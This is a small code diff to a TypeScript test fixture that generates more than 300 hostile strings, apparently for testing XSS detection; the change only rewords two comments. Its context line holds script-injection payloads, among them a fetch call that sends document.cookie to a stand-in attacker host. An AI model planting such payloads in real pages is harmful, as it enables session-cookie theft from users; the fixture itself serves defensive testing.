@@ -1,4 +1,4 @@
-/** What a hostile string calls when it runs: see watch-for-hostile.ts. */
+/** A hostile string calls this when it runs (see watch-for-hostile.ts). */
 export const beacon = "hostile()";
 
 const run = [beacon, "window.hostile()", "top.hostile()", "alert(1)", "fetch('https://evil.example/'+document.cookie)"];
@@ -157,7 +157,7 @@ const letters = [
   "ﷺ".repeat(60),
 ];
 
-/** More than 300 strings, each once. */
+/** More than 300 unique strings. */
 export const hostileStrings: readonly string[] = [
   ...new Set([...elements.flatMap((wrap) => run.map(wrap)), ...addresses, ...styles, ...breakers, ...letters]),
 ];
